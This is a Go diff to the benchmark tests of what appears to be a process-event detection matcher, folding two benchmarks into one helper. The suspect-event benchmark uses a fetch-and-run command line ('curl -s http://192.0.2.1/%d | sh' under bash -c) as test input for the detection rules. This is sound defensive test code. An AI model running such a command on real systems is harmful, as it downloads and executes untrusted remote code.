@@ -74,29 +74,22 @@ func BenchmarkIdentities10000(b *testing.B) {
 // BenchmarkDistinctEvents is one cycle that sees 10,000 programs for the first
 // time, no two of which are alike.
 func BenchmarkDistinctEvents(b *testing.B) {
-	m := benchSet(b).NewMatcher()
-	events := make([]Event, 10000)
-	for i := range events {
-		ordinaryEvent(&events[i], i)
-		events[i].SetArgs(CommandLine, fmt.Sprintf("/srv/app/worker\x00--shard=%d\x00", i))
-	}
-	var hits []*Entry
-	b.ReportAllocs()
-	for b.Loop() {
-		for i := range events {
-			hits = m.Match(&events[i], hits[:0])
-		}
-	}
+	benchEvents(b, "/srv/app/worker\x00--shard=%d\x00")
 }
 
 // BenchmarkSuspectEvents is 10,000 program starts that rules must be evaluated for in
 // full, no two of which are alike.
 func BenchmarkSuspectEvents(b *testing.B) {
+	benchEvents(b, "bash\x00-c\x00curl -s http://192.0.2.1/%d | sh\x00")
+}
+
+// benchEvents matches 10,000 events whose arguments have a number of their own.
+func benchEvents(b *testing.B, args string) {
 	m := benchSet(b).NewMatcher()
 	events := make([]Event, 10000)
 	for i := range events {
 		ordinaryEvent(&events[i], i)
-		events[i].SetArgs(CommandLine, fmt.Sprintf("bash\x00-c\x00curl -s http://192.0.2.1/%d | sh\x00", i))
+		events[i].SetArgs(CommandLine, fmt.Sprintf(args, i))
 	}
 	var hits []*Entry
 	b.ReportAllocs()
